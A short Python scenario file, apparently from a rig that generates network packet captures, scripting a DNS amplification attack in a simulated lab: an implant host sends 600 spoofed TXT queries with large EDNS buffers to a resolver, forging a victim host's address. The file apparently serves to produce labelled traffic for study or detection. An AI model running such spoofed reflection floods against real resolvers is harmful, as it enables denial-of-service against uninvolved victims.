"""A device in the cell asks the resolver in another's name for the longest answer there is."""

from __future__ import annotations

import asyncio

import dns.message

from pcaps.scenarios.rig.forgery import ForgedDatagrams
from pcaps.scenarios.rig.nameserver import RESOLVER
from pcaps.scenarios.rig.park import IDENTIFIERS
from pcaps.scenarios.rig.questioner import make_scenario
from pcaps.scenarios.rig.stage import Stage


async def attack(stage: Stage) -> None:
    """Ask 600 times for TXT with room for 4,096 bytes, the reader's address as source."""
    await stage.until(20)
    stage.mark()
    victim = IDENTIFIERS.host("reader").ip
    with ForgedDatagrams() as forged:
        for _ in range(600):
            question = dns.message.make_query("keys.chem.example", "TXT", use_edns=0, payload=4096)
            question.id = stage.random.randrange(65536)
            forged.send(question.to_wire(), (victim, 33434), (RESOLVER, 53))
            await asyncio.sleep(0.008)


SCENARIO = make_scenario("dns_amplification.pcap.gz", 65, 60, {"implant": attack}, time_scale=3, strangers=("implant",))
